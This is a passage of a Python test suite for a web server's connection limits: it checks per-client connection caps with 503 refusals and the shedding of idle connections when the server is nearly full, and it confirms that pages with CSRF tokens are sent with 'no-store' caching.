    from inquire.web.server import BackgroundServer, ServerLimits

    limits = ServerLimits(max_connections=128, max_connections_per_client=32)
    app = make_app(world["cols"])
    with BackgroundServer(app, limits=limits) as srv:
        idle: list[socket.socket] = []
        refused = 0
        try:
            for _ in range(200):
                s = socket.create_connection(("127.0.0.1", srv.port), 30, ("127.0.0.2", 0))
                idle.append(s)
            for s in idle[32:]:  # beyond the share: answered and closed, not kept
                s.settimeout(30)
                data = b""
                while chunk := s.recv(4096):
                    data += chunk
                refused += data.startswith(b"HTTP/1.1 503")
            assert refused == 200 - 32
            host = f"127.0.0.1:{srv.port}"
            with socket.create_connection(("127.0.0.1", srv.port), timeout=30) as s:
                s.sendall(
                    f"GET /verify/api/collections HTTP/1.1\r\nHost: {host}\r\n"
                    "Connection: close\r\n\r\n".encode()
                )
                data = b""
                while chunk := s.recv(65536):
                    data += chunk
            assert data.split()[1] == b"200", data[:200]
        finally:
            for s in idle:
                s.close()


def test_idle_connections_are_closed_early_when_the_server_is_nearly_full(
    world: dict[str, Any],
) -> None:
    """Many clients each holding idle sockets (under their share): once three quarters of
    the connections are open, the longest idle ones are closed, so a new client is served."""
    from inquire.web.server import SHED_IDLE_AFTER_S, BackgroundServer, ServerLimits

    limits = ServerLimits(max_connections=16, max_connections_per_client=4)
    app = make_app(world["cols"])
    with BackgroundServer(app, limits=limits) as srv:
        idle = [
            socket.create_connection(("127.0.0.1", srv.port), 30, (f"127.0.1.{i // 4 + 1}", 0))
            for i in range(16)
        ]
        try:
            deadline = time.monotonic() + 180
            closed = 0
            host = f"127.0.0.1:{srv.port}"
            ok = False
            # A connection is shed once idle for SHED_IDLE_AFTER_S: poll until a request is
            # served (the idle ones are old enough by then).
            while time.monotonic() < deadline and not ok:
                time.sleep(SHED_IDLE_AFTER_S / 4)
                with socket.create_connection(("127.0.0.1", srv.port), timeout=30) as s:
                    s.sendall(
                        f"GET /verify/api/collections HTTP/1.1\r\nHost: {host}\r\n"
                        "Connection: close\r\n\r\n".encode()
                    )
                    data = b""
                    while chunk := s.recv(65536):
                        data += chunk
                ok = data.split()[1] == b"200"
            assert ok
            for s in idle:
                s.setblocking(False)
                with suppress(BlockingIOError):
                    closed += s.recv(1) == b""
            assert closed >= 16 - 12  # down to three quarters of 16
        finally:
            for s in idle:
                s.close()


def test_pages_with_a_csrf_token_are_not_cached(app: Any, tmp_path: Path) -> None:
    for c, url in [(page_client(app), "/verify"), (page_client(_main_app(tmp_path)), "/")]:
        r = c.get(url)
        assert 'name="csrf-token"' in r.text
        assert r.headers["cache-control"] == "no-store"
